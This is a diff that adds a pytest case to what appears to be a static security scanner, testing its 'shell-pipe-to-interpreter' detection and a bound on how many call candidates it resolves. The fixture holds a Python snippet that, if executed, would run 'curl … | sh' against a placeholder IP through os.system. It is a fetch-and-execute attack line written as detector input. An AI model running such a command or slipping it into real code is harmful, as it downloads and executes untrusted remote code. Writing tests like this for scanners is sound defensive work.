@@ -183,3 +183,18 @@ def test_a_command_a_method_builds_from_its_arguments_and_stores_is_folded_at_it
     # an argument not known at one call: the list's constants are not all it holds
     unknown = code.replace("    m.go()\n", "    m.add(input())\n    m.go()\n")
     assert found("shell-pipe-to-interpreter", unknown) == []
+
+
+def test_a_method_named_like_a_common_call_is_not_folded_past_the_candidate_bound(monkeypatch):
+    from codescan.analyze.semantics.lang import python_method_stores as stores
+
+    resolved = []
+    real = stores.callee_value
+    monkeypatch.setattr(stores, "callee_value", lambda values, call: resolved.append(call) or real(values, call))
+    calls = "".join(f"    seen{i}.add(x)\n" for i in range(300))  # set.add everywhere: not the method
+    code = ("import os\nclass Jobs:\n    steps = []\n    def add(self, *parts):\n"
+            "        self.steps.append(' '.join(parts))\n    def go(self):\n"
+            "        for step in self.steps:\n            os.system(step)\n"
+            "def f(x):\n" + calls + "    Jobs().add('curl', '-s', 'http://203.0.113.5/u', '|', 'sh')\n    Jobs().go()\n")
+    found("shell-pipe-to-interpreter", code)
+    assert 0 < len(resolved) <= stores.MAX_CANDIDATES
